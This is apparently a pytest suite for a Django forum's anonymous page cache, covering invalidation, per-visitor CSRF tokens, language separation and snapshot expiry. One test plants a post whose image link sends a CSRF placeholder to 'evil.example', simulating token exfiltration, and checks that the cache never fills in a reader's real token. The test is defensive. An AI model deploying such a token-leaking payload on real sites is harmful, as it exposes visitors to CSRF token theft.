"""The anonymous page cache: what it stores, who gets it, and that it never shows stale
content after a change (config/pagecache.py)."""

import re

import pytest
from config.pagecache import (
    CSRF_PLACEHOLDER,
    LocalSnapshots,
    local_snapshots,
    site_generation,
    site_generation_bump,
)
from django.contrib.contenttypes.models import ContentType
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils.crypto import salted_hmac

from forum.models import Answer, Question
from members.models import OutboundEmail
from moderation.content import ModerationState
from tests.factories import logged_in
from tests.forum.factories import AnswerFactory, QuestionFactory
from tests.moderation.factories import current_rule

pytestmark = pytest.mark.django_db

BODY = "Restart the sync agent, then clear the cache in Settings › Storage."


@pytest.fixture
def question(db):
    return QuestionFactory(title="How do I export my invoices to CSV?")


def test_a_visitors_second_request_is_served_from_the_cache(question, django_assert_num_queries):
    first = Client().get("/questions/")
    with django_assert_num_queries(0):
        second = Client().get("/questions/")
    assert second.status_code == 200
    assert question.title in second.content.decode()

    def without_tokens(html: str) -> str:
        return re.sub(r'(value="|"X-CSRFToken": ")[A-Za-z0-9]{64}', "", html)

    assert without_tokens(first.content.decode()) == without_tokens(second.content.decode())


def test_an_answer_posted_by_a_member_shows_to_visitors_at_once(question, member):
    page = question.get_absolute_url()
    assert BODY not in Client().get(page).content.decode()
    response = logged_in(member).post(f"/questions/{question.pk}/answer/", {"body": BODY})
    assert response.status_code == 302
    assert BODY in Client().get(page).content.decode()
    assert "<strong>1</strong> answer" in Client().get("/questions/").content.decode()


def test_an_answer_hidden_by_a_moderator_disappears_for_visitors_at_once(question, moderator):
    rule = current_rule(1)
    answer = AnswerFactory(question=question, body=BODY)
    page = question.get_absolute_url()
    assert BODY in Client().get(page).content.decode()
    ct = ContentType.objects.get_for_model(Answer).pk
    response = logged_in(moderator).post(
        f"/moderation/content/{ct}/{answer.pk}/hide/", {"rule": rule.pk, "reason": "Spam"}
    )
    assert response.status_code == 302
    answer.refresh_from_db()
    assert answer.moderation_state == ModerationState.HIDDEN
    assert BODY not in Client().get(page).content.decode()


def test_changes_made_outside_a_request_also_show_at_once(question):
    page = question.get_absolute_url()
    assert "Renamed in the admin" not in Client().get(page).content.decode()
    question.title = "Renamed in the admin"
    question.save()  # the admin, a command or a background job
    assert "Renamed in the admin" in Client().get(page).content.decode()
    Question.objects.get(pk=question.pk).delete()
    assert Client().get(page).status_code == 404


def _token(html: str) -> str:
    return re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)


def test_every_visitor_gets_their_own_working_csrf_token_from_a_cached_page(question):
    first, second = Client(enforce_csrf_checks=True), Client(enforce_csrf_checks=True)
    first_html = first.get("/questions/").content.decode()
    response = second.get("/questions/")  # from the cache
    html = response.content.decode()
    assert CSRF_PLACEHOLDER not in first_html and CSRF_PLACEHOLDER not in html
    assert "csrftoken" in response.cookies
    assert _token(html) != _token(first_html)
    assert f'"X-CSRFToken": "{_token(html)}"' in html
    switched = second.post(
        "/i18n/language/",
        {"language": "ru", "next": "/questions/", "csrfmiddlewaretoken": _token(html)},
    )
    assert switched.status_code == 302
    foreign = Client(enforce_csrf_checks=True)
    foreign.get("/faq/")
    refused = foreign.post(
        "/i18n/language/",
        {"language": "ru", "next": "/", "csrfmiddlewaretoken": _token(first_html)[:10]},
    )
    assert refused.status_code == 403


# The placeholder this project used before it was derived from the secret key: public in the
# repository's history, so anyone could write it into a post.
PUBLISHED_PLACEHOLDER = "veche0csrf0placeholder0a61d9c47e2b35f8"


def test_the_placeholder_comes_from_the_secret_key():
    expected = salted_hmac("veche.pagecache.csrf-placeholder", "1").hexdigest()[:40]
    assert CSRF_PLACEHOLDER == "csrfph" + expected
    assert CSRF_PLACEHOLDER != PUBLISHED_PLACEHOLDER


def test_text_that_looks_like_the_placeholder_never_receives_a_visitors_token(question):
    """A post cannot make the cache put each reader's CSRF token into its own link."""
    AnswerFactory(
        question=question, body=f"![chart](https://evil.example/c?t={PUBLISHED_PLACEHOLDER})"
    )
    for reader in (Client(), Client()):  # the second is served from the cache
        html = reader.get(question.get_absolute_url()).content.decode()
        token = reader.cookies["csrftoken"].value
        assert f"https://evil.example/c?t={PUBLISHED_PLACEHOLDER}" in html
        assert f"evil.example/c?t={token}" not in html
        assert CSRF_PLACEHOLDER not in html


def test_signed_in_members_never_get_or_fill_the_visitors_cache(question, member):
    Client().get("/questions/")
    client = logged_in(member)
    html = client.get("/questions/").content.decode()
    assert "Log out" in html and member.name in html
    assert "Log out" not in Client().get("/questions/").content.decode()


def test_languages_are_cached_apart(question):
    assert "Questions" in Client().get("/questions/").content.decode()
    russian = Client(HTTP_ACCEPT_LANGUAGE="ru").get("/questions/").content.decode()
    assert "Вопросы" in russian
    assert 'lang="en"' in Client().get("/questions/").content.decode()


def _queries(client: Client, path: str, **headers) -> int:
    with CaptureQueriesContext(connection) as captured:
        assert client.get(path, **headers).status_code == 200
    return len(captured.captured_queries)


def _view_ran(client: Client, path: str, **headers) -> bool:
    """Whether the view rendered its page (a stored page renders no template). Query counts
    cannot tell: the page's fragments may all come from the cache."""
    response = client.get(path, **headers)
    assert response.status_code == 200
    return "forum/question_list.html" in [t.name for t in response.templates]


def test_visitors_with_a_session_or_htmx_requests_bypass_the_cache(question):
    Client().get("/questions/")
    assert _queries(Client(), "/questions/") == 0
    assert not _view_ran(Client(), "/questions/")
    with_session = Client()
    with_session.cookies["sessionid"] = "abc"
    assert _view_ran(with_session, "/questions/")
    assert _view_ran(Client(), "/questions/", HTTP_HX_REQUEST="true")


def test_question_views_are_counted_on_cached_pages(question):
    for _ in range(3):
        assert Client().get(question.get_absolute_url()).status_code == 200
    question.refresh_from_db()
    assert question.view_count == 3


def test_a_zero_lifetime_turns_the_cache_off(question, settings):
    settings.VECHE_PAGE_CACHE_SECONDS = 0
    Client().get("/questions/")
    assert _queries(Client(), "/questions/") > 0


def test_error_pages_and_redirects_are_not_stored(question):
    assert Client().get("/questions/999999/missing/").status_code == 404
    wrong_slug = f"/questions/{question.pk}/wrong-slug/"
    assert Client().get(wrong_slug).status_code == 301
    Question.objects.filter(pk=question.pk).update(slug="wrong-slug")  # no signal
    # A bulk update does not bump the site generation, so this process's snapshot of the
    # question would keep the old slug for up to PAGE_CACHE_SECONDS (test_local_snapshots_*);
    # what is checked here is that the redirect was not stored as a page.
    local_snapshots.clear()
    assert Client().get(wrong_slug).status_code == 200


@pytest.mark.postgres
def test_view_counts_commit_without_waiting_for_the_disk_on_postgres(question):
    with CaptureQueriesContext(connection) as captured:
        assert Client().get(question.get_absolute_url()).status_code == 200
    assert any("synchronous_commit TO OFF" in q["sql"] for q in captured.captured_queries)
    question.refresh_from_db()
    assert question.view_count == 1


def test_home_blocks_are_shared_by_a_kind_of_viewer_and_never_mix_kinds(member):
    from tests.factories import MemberFactory
    from tests.forum.factories import CategoryFactory

    private = QuestionFactory(
        title="Ambassadors only: the beta plan", category=CategoryFactory(ambassadors_only=True)
    )
    public = QuestionFactory(title="How do I reset my password?")
    ambassador = MemberFactory(badge="ambassador")
    ambassador_client, member_client = logged_in(ambassador), logged_in(member)
    assert private.title in ambassador_client.get("/").content.decode()
    html = member_client.get("/").content.decode()
    assert public.title in html and private.title not in html
    assert member.name in html and ambassador.name not in html  # the header is the viewer's
    assert private.title not in Client().get("/").content.decode()
    held = QuestionFactory(
        title="My own held question", author=member, moderation_state=ModerationState.HELD
    )
    assert held.title not in member_client.get("/").content.decode()  # published only
    newer = QuestionFactory(title="A question asked just now")
    assert newer.title in member_client.get("/").content.decode()


def _counting_builder():
    calls = []

    def build():
        calls.append(1)
        return len(calls)

    return calls, build


def test_local_snapshots_are_rebuilt_after_any_change(settings):
    snapshots = LocalSnapshots()
    calls, build = _counting_builder()
    assert snapshots.get("page", 1, build) == 1
    assert snapshots.get("page", 1, build) == 1
    site_generation_bump()
    assert snapshots.get("page", 1, build) == 2
    assert snapshots.get("page", 2, build) == 3  # another key, another entry
    assert len(calls) == 3


def test_local_snapshots_last_page_cache_seconds_at_most(settings, monkeypatch):
    settings.VECHE_PAGE_CACHE_SECONDS = 60
    snapshots = LocalSnapshots()
    calls, build = _counting_builder()
    now = [1000.0]
    monkeypatch.setattr("config.pagecache.time.monotonic", lambda: now[0])
    snapshots.get("page", 1, build)
    now[0] += 59
    snapshots.get("page", 1, build)
    now[0] += 2
    snapshots.get("page", 1, build)
    assert len(calls) == 2


def test_local_snapshots_keep_the_most_recently_used_and_turn_off_with_the_cache(settings):
    snapshots = LocalSnapshots(size=2)
    calls, build = _counting_builder()
    snapshots.get("page", 1, build)
    snapshots.get("page", 2, build)
    snapshots.get("page", 1, build)  # 1 is now the most recent
    snapshots.get("page", 3, build)  # evicts 2
    snapshots.get("page", 1, build)
    assert len(calls) == 3
    snapshots.get("page", 2, build)
    assert len(calls) == 4
    settings.VECHE_PAGE_CACHE_SECONDS = 0
    snapshots.get("page", 2, build)
    snapshots.get("page", 2, build)
    assert len(calls) == 6


def test_a_cache_flush_never_revives_an_old_generation():
    from config.pagecache import site_generation
    from django.core.cache import cache

    before = site_generation()
    cache.clear()
    assert site_generation() != before


def test_mail_in_the_outbox_changes_no_page(member):
    """The outbox is written for every notification e-mail; no page shows it."""
    before = site_generation()
    OutboundEmail.objects.create(recipient=member, to=member.email, kind="welcome", subject="Hi")
    assert site_generation() == before
    QuestionFactory(author=member)
    assert site_generation() != before
